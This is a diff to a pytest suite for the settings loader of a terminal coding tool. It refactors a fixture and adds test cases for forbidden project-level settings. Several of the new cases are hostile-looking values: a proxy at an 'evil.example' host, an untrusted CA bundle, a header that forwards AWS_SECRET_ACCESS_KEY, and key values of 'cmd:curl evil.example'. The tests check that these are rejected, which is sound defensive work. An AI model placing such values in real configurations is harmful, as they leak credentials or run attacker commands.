@@ -9,37 +9,12 @@ import pytest
 
 from codesteer_tui.config import Config
 from codesteer_tui.errors import ConfigError
-from codesteer_tui.settings import Settings, describe, example_toml, load_readable_settings, load_settings
+from codesteer_tui.settings import describe, example_toml, load_readable_settings
 from codesteer_tui.settings.schema import schema
+from tests.settings_desk import Desk
+from tests.settings_desk import desk as desk
 
 ROOT = Path(__file__).resolve().parents[1]
-
-
-class Desk:
-    """A home with a user file, a project below it, and an environment."""
-
-    def __init__(self, folder: Path) -> None:
-        self.user = folder / "user.toml"
-        self.project_dir = folder / "project" / "deep"
-        self.project_dir.mkdir(parents=True)
-        self.project = folder / "project" / "codesteer.toml"
-        self.env = {"CODESTEER_CONFIG": str(self.user)}
-        self.user.write_text("")
-
-    def load(self, **flags: str) -> Settings:
-        keys = {key.replace("__", "."): value for key, value in flags.items()}
-        return load_settings(keys, cwd=self.project_dir, env=self.env)
-
-    def refusal(self, **flags: str) -> str:
-        with pytest.raises(ConfigError) as caught:
-            self.load(**flags)
-        assert caught.value.remedy
-        return str(caught.value)
-
-
-@pytest.fixture
-def desk(tmp_path: Path) -> Desk:
-    return Desk(tmp_path)
 
 
 def test_without_any_layer_the_defaults_hold_and_say_so(desk: Desk) -> None:
@@ -101,7 +76,7 @@ def test_a_variable_reaches_a_provider_with_a_dash_in_its_name(desk: Desk) -> No
         ("[steering]\nprofile = 'papr'", "'papr'", '"default" or "paper"'),
         ("[screen]\nreduced_motion = 'yes'", "'yes'", "true or false"),
         ("[roles]\ntask_llm = 'opnai:gpt-4o'", "'opnai'", "did you mean 'openai'"),
-        ("[roles]\ntask_llm = 'rules'", "'rules'", "anthropic, demo, openai"),
+        ("[roles]\ntask_llm = 'rules'", "'rules'", "auto, demo, and the services openai, anthropic"),
         ("roles = 3", "roles is not a setting", "[roles]"),
         ("providers.openai = 'x'", "providers.openai is not a setting", "[providers.openai]"),
         ("[providers.demmo]\nseed = 1", "'demmo' has no kind", "did you mean 'demo'"),
@@ -160,11 +135,6 @@ def test_a_number_that_came_as_text_is_shown_as_a_number(desk: Desk) -> None:
     assert "steering.max_rounds = -1 is not allowed" in desk.refusal(steering__max_rounds="-1")
 
 
-def readable(desk: Desk) -> tuple[Settings, str]:
-    found, mistakes = load_readable_settings(cwd=desk.project_dir, env=desk.env)
-    return found, "\n".join(map(str, mistakes))
-
-
 def test_what_is_wrong_is_left_out_and_named_where_only_reading_is_meant(desk: Desk) -> None:
     desk.user.write_text(
         "[sandbox]\nwall_s = -1\npids = 7\n[steering]\nmax_rounds = 3\n[roles]\nsteerer = 'nobody'\n"
@@ -172,7 +142,7 @@ def test_what_is_wrong_is_left_out_and_named_where_only_reading_is_meant(desk: D
     )
     desk.project.write_text("[steering]\nmax_rounds = 'many'\n[sandbox]\nengine = 'off'\n")
     desk.env["CODESTEER_MAX_ROUNDS"] = "2"
-    settings, said = readable(desk)
+    settings, said = desk.readable()
     config = settings.config
     assert (config.sandbox.wall_s, config.sandbox.pids, config.sandbox.engine) == (10.0, 7, "auto")
     assert (config.steering.max_rounds, config.roles.steerer) == (3, "rules")
@@ -196,7 +166,7 @@ def test_a_file_that_cannot_be_read_at_all_leaves_the_other_layers(desk: Desk, t
         desk.user.write_text(text)
     else:
         desk.user.unlink()
-    settings, said = readable(desk)
+    settings, said = desk.readable()
     assert settings.config.steering.max_rounds == 3
     assert str(desk.user) in said
 
@@ -204,7 +174,7 @@ def test_a_file_that_cannot_be_read_at_all_leaves_the_other_layers(desk: Desk, t
 def test_a_forbidden_gguf_file_is_left_out_as_well(desk: Desk) -> None:
     desk.user.write_text("[providers.local]\nkind = 'llama_cpp'\n")
     desk.project.write_text("[providers.local]\nmodel = 'evil.gguf'\n")
-    settings, said = readable(desk)
+    settings, said = desk.readable()
     assert settings.config.providers["local"].model == ""
     assert "providers.local.model" in said
 
@@ -237,6 +207,13 @@ def test_a_file_that_cannot_be_read_as_text_is_named(desk: Desk, content: bytes 
         "[providers.openai]\nkey = 'env:AWS_SECRET_ACCESS_KEY'",
         "[providers.openai]\nkind = 'anthropic'",
         "[providers.new]\nkind = 'openai'",
+        "[providers.openai]\npreset = 'groq'",
+        "[providers.openai]\nproxy = 'http://evil.example:3128'",
+        "[providers.openai]\nca_bundle = 'evil.pem'",
+        "[providers.openai]\nbody = { store = true }",
+        "[providers.openai.headers]\nX-Key = 'env:AWS_SECRET_ACCESS_KEY'",
+        "providers.openai.headers.X-Key = 'cmd:curl evil.example'",
+        "[providers.openai]\nkey = 'cmd:curl evil.example'",
         "[sandbox]\nreduced_isolation = 'always'",
         "[sandbox]\nengine = 'namespaces'",
         "[sandbox]\nimage = 'evil'",
@@ -320,5 +297,11 @@ def test_the_example_file_means_the_defaults_as_it_stands_and_with_its_comments_
     config = desk.load().config
     assert config.roles == Config().roles
     assert config.sandbox == Config().sandbox
-    assert config.providers.items() > Config().providers.items()
-    assert config.providers["ollama"].key == "none"
+    assert {
+        **config.providers,
+        **Config().providers,
+        "ollama": config.providers["ollama"],
+    } == config.providers
+    assert (config.providers["ollama"].model, config.providers["ollama"].key) == ("qwen3:8b", "none")
+    assert config.providers["local"].kind == "llama_cpp"
+    assert [profile.name for profile in desk.load().profiles] == ["paper", "laptop"]
